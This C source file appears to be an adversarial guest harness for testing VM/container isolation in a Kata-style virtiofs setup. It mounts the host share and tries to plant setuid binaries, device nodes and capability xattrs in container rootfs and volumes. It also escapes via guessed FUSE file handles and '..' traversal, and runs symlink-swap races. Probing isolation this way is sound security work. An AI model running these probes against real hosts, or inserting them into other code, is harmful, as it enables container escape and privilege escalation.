#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#include "hostile.h"

/*
 * What a guest does that mounts the host's share by its tag and takes no notice of what its agent
 * would make of it.
 */

#define SHARE        "/share-of-the-host"
#define VIRTIOFS_TAG "kataShared"
#define NAME         "evil"
#define HANDLE_BYTES 12
#define HANDLE_FUSE  0x81
#define PARENTS_MAX  20
#define NODES_MAX    2000

static int mount_share(void)
{
	mkdir(SHARE, 0755);
	if (mount(VIRTIOFS_TAG, SHARE, "virtiofs", 0, NULL) == 0 || errno == EBUSY)
		return 0; /* EBUSY: it is there already */
	printf("mount: %m\n");
	return -1;
}

/* What each tries in the directory that it is in: 0, or -1 with errno. */

static int make_file(void)
{
	int fd = open(NAME, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);

	return fd < 0 ? -1 : close(fd);
}

static int make_directory(void)
{
	return mkdir(NAME ".dir", 0777);
}

static int make_link(void)
{
	return symlink("/", NAME ".link");
}

static int make_device(void)
{
	return mknod(NAME ".dev", S_IFBLK | 0666, makedev(8, 0));
}

static int make_memory_device(void)
{
	return mknod(NAME ".mem", S_IFCHR | 0666, makedev(1, 1));
}

static int make_fifo(void)
{
	return mkfifo(NAME ".fifo", 0666);
}

static int make_socket(void)
{
	struct sockaddr_un name = { .sun_family = AF_UNIX, .sun_path = NAME ".socket" };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	int r = bind(fd, (struct sockaddr *)&name, sizeof(name));

	close(fd);
	return r;
}

static int make_set_uid(void)
{
	int fd = open(NAME ".suid", O_WRONLY | O_CREAT | O_CLOEXEC, 0700);

	if (fd < 0)
		return -1;
	write_all(fd, "#!/bin/sh\nid\n", 13);
	return fchmod(fd, 06755) | close(fd);
}

static int change_mode(void)
{
	return chmod(".", 0777);
}

static int change_owner(void)
{
	return chown(".", 1234, 1234);
}

static int set_attribute(void)
{
	return setxattr(".", "trusted.overlay.opaque", "y", 1, 0);
}

static int give_capabilities(void)
{
	static const unsigned char all[20] = { 1, 0, 0, 2, 255, 255, 255, 255 };

	return setxattr(NAME ".suid", "security.capability", all, sizeof(all), 0);
}

static const struct {
	const char *name;
	int (*run)(void);
} tries[] = {
	{ "file", make_file },
	{ "directory", make_directory },
	{ "link", make_link },
	{ "device", make_device },
	{ "memory", make_memory_device },
	{ "fifo", make_fifo },
	{ "socket", make_socket },
	{ "set-uid", make_set_uid },
	{ "mode", change_mode },
	{ "owner", change_owner },
	{ "trusted", set_attribute },
	{ "capabilities", give_capabilities },
};

static void try_all(const char *label, const char *path)
{
	if (chdir(path) < 0) {
		printf("%s: %m\n", label);
		return;
	}
	for (size_t i = 0; i < sizeof(tries) / sizeof(tries[0]); i++)
		printf("%s %s: %s\n", label, tries[i].name,
		       tries[i].run() == 0 ? "done" : strerror(errno));
}

/* The volumes in the order of the containers' mounts. */
static void try_volumes(void)
{
	char path[300];

	for (unsigned int number = 0; number < 100; number++) {
		snprintf(path, sizeof(path), SHARE "/.volumes/%u", number);
		if (access(path, F_OK) == 0)
			try_all(path + strlen(SHARE "/"), path);
	}
}

/* share CONTAINER: writes wherever it can. */
int attack_share(int argc, char **argv)
{
	char path[300];

	if (argc < 1 || mount_share() < 0)
		return 1;
	try_all("top", SHARE);
	snprintf(path, sizeof(path), SHARE "/%s", argv[0]);
	try_all("container", path);
	try_all("volumes", SHARE "/.volumes");
	snprintf(path, sizeof(path), SHARE "/%s/rootfs", argv[0]);
	try_all("rootfs", path);
	try_volumes();
	return 0;
}

struct look {
	const char *wanted;
	unsigned long nodes, directories, names, found;
};

static void look_at(struct look *look, int fd)
{
	int again = dup(fd);
	DIR *dir = again < 0 ? NULL : fdopendir(again);
	struct dirent *entry;

	if (!dir) {
		if (again >= 0)
			close(again);
		return;
	}
	look->directories++;
	rewinddir(dir);
	while ((entry = readdir(dir))) {
		look->names++;
		look->found += !strcmp(entry->d_name, look->wanted);
	}
	closedir(dir);
}

/* Upwards from a directory, as far as it goes. Takes the descriptor over. */
static void look_up(struct look *look, int fd)
{
	for (int i = 0; fd >= 0 && i < PARENTS_MAX; i++) {
		int parent = openat(fd, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

		look_at(look, fd);
		close(fd);
		fd = parent;
	}
	if (fd >= 0)
		close(fd);
}

static int open_node(int share, uint64_t node, uint32_t generation, int flags)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + HANDLE_BYTES];
	} u = { .handle = { .handle_bytes = HANDLE_BYTES, .handle_type = HANDLE_FUSE } };
	const uint32_t words[] = { (uint32_t)(node >> 32), (uint32_t)node, generation };

	memcpy(u.handle.f_handle, words, sizeof(words));
	return open_by_handle_at(share, &u.handle, flags | O_CLOEXEC);
}

/*
 * handles CONTAINER NAME: looks for a file of this name wherever a guest gets by handles it has
 * guessed, and by "..".
 */
int attack_handles(int argc, char **argv)
{
	struct look look = { .wanted = argc > 1 ? argv[1] : "" };
	char path[300];
	int share;

	if (argc < 2 || mount_share() < 0)
		return 1;
	share = open(SHARE, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	for (unsigned int number = 0; number < 100; number++) {
		snprintf(path, sizeof(path), SHARE "/.volumes/%u", number);
		look_up(&look, open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
	}
	for (uint64_t node = 0; node < NODES_MAX; node++) {
		int fd = open_node(share, node, 0, O_RDONLY | O_DIRECTORY | O_NONBLOCK);

		look.nodes += fd >= 0;
		look_up(&look, fd);
	}
	printf("nodes=%lu directories=%lu names=%lu found=%lu\n", look.nodes, look.directories,
	       look.names, look.found);
	return 0;
}

/*
 * races DIRECTORY TARGET SECONDS: a directory and a link to TARGET change places all the time, and
 * the directory moves about.
 */
int attack_races(int argc, char **argv)
{
	unsigned long turns = 0;
	time_t end;

	if (argc < 3 || (mkdir(argv[0], 0755) < 0 && errno != EEXIST) || chdir(argv[0]) < 0) {
		printf("races: %m\n");
		return 1;
	}
	mkdir("place", 0755);
	mkdir("other", 0755);
	symlink(argv[1], "link");
	end = time(NULL) + strtol(argv[2], NULL, 10);
	while (time(NULL) < end) {
		rename("place", "other/place");
		rename("link", "place");
		rename("place", "link");
		rename("other/place", "place");
		turns++;
	}
	printf("turns=%lu\n", turns);
	return turns == 0;
}
